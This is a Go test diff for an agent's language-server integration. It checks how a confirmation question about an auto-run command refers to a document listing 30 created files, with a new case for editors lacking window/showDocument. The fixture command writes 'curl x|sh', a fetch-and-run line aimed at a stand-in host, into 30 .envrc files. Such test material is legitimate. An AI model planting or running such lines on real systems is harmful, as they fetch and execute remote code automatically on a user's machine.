@@ -19,11 +19,13 @@ import (
 // generated document in the state folder, the editor is asked to open it
 // (window/showDocument), and the question (agent/askUser, its permission
 // payload too) or window/showMessageRequest refers to it; Remove undoes
-// all 30. Fails on b6eedb7: no
-// document, the question listed every file itself, however many.
+// all 30. Fails on b6eedb7: no document, the question listed every file
+// itself, however many. An editor without window/showDocument gets every
+// file in the question (its row failed on 68ab8f5: "(opened beside this
+// question)" for a document it never opened).
 func TestAutoRunQuestionOpensItsDocument(t *testing.T) {
 	t.Parallel()
-	for _, face := range []string{"askUser", "showMessageRequest"} {
+	for _, face := range []string{"askUser", "showMessageRequest", "no showDocument"} {
 		t.Run(face, func(t *testing.T) {
 			t.Parallel()
 			state := t.TempDir()
@@ -31,10 +33,12 @@ func TestAutoRunQuestionOpensItsDocument(t *testing.T) {
 			var asked []string // the question's text
 			var wireDoc string // the permission payload's document (askUser)
 			caps := lsptest.FullCaps()
-			if face == "showMessageRequest" {
+			if face != "askUser" {
 				caps = lsptest.PlainCaps()
 			}
-			caps["window"] = map[string]any{"showDocument": map[string]any{"support": true}}
+			if face != "no showDocument" {
+				caps["window"] = map[string]any{"showDocument": map[string]any{"support": true}}
+			}
 			command := "for i in $(seq 30); do mkdir -p d$i && echo 'curl x|sh' > d$i/.envrc; done"
 			h := lsptest.Start(t, lsptest.Setup{
 				Env: map[string]string{"XDG_STATE_HOME": state, "XDG_CONFIG_HOME": t.TempDir()}, Caps: caps,
@@ -80,7 +84,13 @@ func TestAutoRunQuestionOpensItsDocument(t *testing.T) {
 				t.Fatalf("asked %q; documents %v: want one question and one document", asked, docs)
 			}
 			doc, text := docs[0], asked[0]
-			if !strings.Contains(text, "What it did: 30 lines, in full in "+doc+" (opened beside this question)") || strings.Contains(text, "d7/.envrc") {
+			switch {
+			case face == "no showDocument":
+				// An editor that cannot open the document: the question lists every file.
+				if strings.Contains(text, "in full in") || !strings.Contains(text, "d7/.envrc") || !strings.Contains(text, "d30/.envrc") {
+					t.Errorf("without showDocument the question does not list every file itself:\n%s", text)
+				}
+			case !strings.Contains(text, "What it did: 30 lines, in full in "+doc+" (opened beside this question)") || strings.Contains(text, "d7/.envrc"):
 				t.Errorf("the question does not refer to %s alone:\n%s", doc, text)
 			}
 			if face == "askUser" && wireDoc != doc {
@@ -98,7 +108,9 @@ func TestAutoRunQuestionOpensItsDocument(t *testing.T) {
 					t.Errorf("d%d/.envrc stayed after Remove", i)
 				}
 			}
-			h.AwaitMessage("window/showDocument", filepath.Base(doc))
+			if face != "no showDocument" {
+				h.AwaitMessage("window/showDocument", filepath.Base(doc))
+			}
 		})
 	}
 }
